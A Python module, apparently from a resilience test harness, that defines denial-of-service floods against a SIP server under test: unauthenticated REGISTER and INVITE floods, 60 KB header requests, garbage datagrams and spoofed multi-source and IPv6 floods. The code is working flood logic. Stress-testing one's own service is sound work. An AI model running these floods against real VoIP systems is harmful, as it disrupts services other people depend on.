"""Floods of requests of strangers: nobody authenticates."""

from __future__ import annotations

import asyncio
from random import Random

from hostile.attack import DOMAIN, Attack, Report, Target
from hostile.datagrams import FROM_PORT, PADDING, Make, flood, request
from hostile.network import ATTACKER, SERVER, SOURCES, as_ipv6


def _invites(port: int) -> Make:
    uri = f"sip:broker@{SERVER}:{port}"
    contact = f"Contact: <sip:stranger@{ATTACKER}:{FROM_PORT}>"
    return lambda number: request("INVITE", uri, via=f"{ATTACKER}:{FROM_PORT}", number=number, headers=[contact])


def _registers(number: int) -> bytes:
    contact = f"Contact: <sip:stranger@{ATTACKER}:{FROM_PORT}>"
    return request(
        "REGISTER", f"sip:{DOMAIN}", via=f"{ATTACKER}:{FROM_PORT}", number=number, headers=[contact, PADDING]
    )


async def _broker(target: Target) -> Report:
    return await flood(target, target.broker_port, _invites(target.broker_port), 560)


async def _registrar(target: Target) -> Report:
    return await flood(target, target.sip_port, _registers, 1_350, sources=SOURCES[:3])


async def _fast(target: Target) -> Report:
    return await flood(target, target.sip_port, _registers, 5_000)


async def _many_sources(target: Target) -> Report:
    return await flood(target, target.sip_port, _registers, 2_000, sources=SOURCES)


async def _many_networks(target: Target) -> Report:
    return await flood(target, target.sip_port, _registers, 1_350, sources=[as_ipv6(each) for each in SOURCES[:500]])


def _large_registers(number: int) -> bytes:
    quoted = '"' + "q" * LARGE_BYTES + '"'
    contact = f"Contact: {quoted} <sip:stranger@{ATTACKER}:{FROM_PORT}>"
    return request("REGISTER", f"sip:{DOMAIN}", via=f"{ATTACKER}:{FROM_PORT}", number=number, headers=[contact])


def _large_invites(port: int) -> Make:
    uri = f"sip:broker@{SERVER}:{port}"
    lines = [f"Contact: <sip:stranger@{ATTACKER}:{FROM_PORT}>", f"Subject: {'s' * LARGE_BYTES}"]
    return lambda number: request("INVITE", uri, via=f"{ATTACKER}:{FROM_PORT}", number=number, headers=lines)


async def _large_heads(target: Target) -> Report:
    """Send both at a time, each at half of the rate at either port."""
    both = await asyncio.gather(
        flood(target, target.sip_port, _large_registers, 30),
        flood(target, target.broker_port, _large_invites(target.broker_port), 190, from_port=FROM_PORT + 1),
    )
    return {name: sum(each[name] for each in both) for name in ("sent", "sent_bytes")}


def _garbage(seed: int) -> Make:
    """Return datagrams of every kind of nonsense: random bytes, incomplete requests, headers of the data channel."""
    random = Random(seed)
    torn = _registers(seed)
    samples = [random.randbytes(random.randint(1, 1_200)) for _ in range(200)]
    samples += [torn[: random.randint(1, len(torn))] for _ in range(100)]
    samples += [bytes([random.randint(0, 255)]) + random.randbytes(random.randint(8, 60)) for _ in range(200)]
    return lambda number: samples[number % len(samples)]


async def _all_garbage(target: Target) -> Report:
    ports = (target.sip_port, target.broker_port, target.data_port)
    reports = await asyncio.gather(
        *(
            flood(target, port, _garbage(port), GARBAGE_PER_S / 3, from_port=FROM_PORT + n)
            for n, port in enumerate(ports)
        )
    )
    return {name: sum(each[name] for each in reports) for name in ("sent", "sent_bytes")}


LARGE_BYTES = 60_000
GARBAGE_PER_S = 2_400

ATTACKS = (
    Attack(
        "large_heads",
        "3",
        "30 REGISTERs/s and 190 INVITEs/s of 60 KB without a password",
        _large_heads,
        has_hole=True,
        quick=True,
    ),
    Attack(
        "garbage", "own", "2,400 datagrams/s of nonsense at the SIP, broker and data ports", _all_garbage, has_hole=True
    ),
    Attack(
        "broker_flood",
        "4",
        "560 INVITEs/s without a password at the broker's SIP port",
        _broker,
        has_hole=True,
        quick=True,
    ),
    Attack(
        "registrar_flood", "4", "1,350 REGISTERs/s without a password from three sources", _registrar, has_hole=True
    ),
    Attack("registrar_flood_fast", "4", "5,000 REGISTERs/s without a password from one source", _fast, has_hole=True),
    Attack("registrar_flood_wide", "4", "2,000 REGISTERs/s from a thousand sources", _many_sources, has_hole=True),
    Attack(
        "registrar_flood_v6",
        "4",
        "1,350 REGISTERs/s from 500 networks of IPv6, a /64 each; everybody has IPv6 only",
        _many_networks,
        has_hole=True,
        ipv6=True,
    ),
)
